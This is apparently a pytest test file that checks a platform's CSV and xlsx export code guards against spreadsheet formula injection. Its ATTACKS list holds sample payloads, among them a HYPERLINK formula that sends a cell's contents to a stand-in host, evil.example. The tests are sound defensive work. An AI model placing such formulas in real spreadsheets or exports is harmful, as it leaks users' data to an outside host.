"""Every CSV and xlsx the platform writes is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from replika.core.exporting import Sheet, csv_bytes, safe_cell, xlsx_bytes

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [None, 0, -2, -2.31, Decimal("-1.5"), True, dt.date(2021, 11, 15), "Kota Padang", "12,4"],
)
def test_values_and_ordinary_text_are_kept(value):
    assert safe_cell(value) == value


def test_csv_cells_are_neutralised_and_numbers_stay_numbers():
    content = csv_bytes(["Judul", "Nilai"], [[ATTACKS[0], -2.31], ["-x", 5]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + ATTACKS[0], "-2.31"]
    assert rows[2] == ["'-x", "5"]


def test_csv_reports_progress():
    seen: list[int] = []
    csv_bytes(["a"], ([i] for i in range(5)), progress=seen.append, every=2)
    assert seen == [2, 4]


def test_xlsx_holds_no_live_formula():
    content = xlsx_bytes(
        [
            Sheet("Tonggak: rencana/aksi?", ["Judul", "Z"], [[ATTACKS[0], -2.5], ["@x", 1]]),
            Sheet("Kedua", ["=kepala"], []),
        ]
    )
    book = load_workbook(io.BytesIO(content))
    first, second = book.worksheets
    assert first.title == "Tonggak rencanaaksi"
    assert first["A2"].value == "'" + ATTACKS[0]
    assert first["A2"].data_type == "s"
    assert first["B2"].value == -2.5
    assert first["A3"].value == "'@x"
    assert second["A1"].value == "'=kepala"
    assert all(cell.data_type != "f" for row in first.iter_rows() for cell in row)
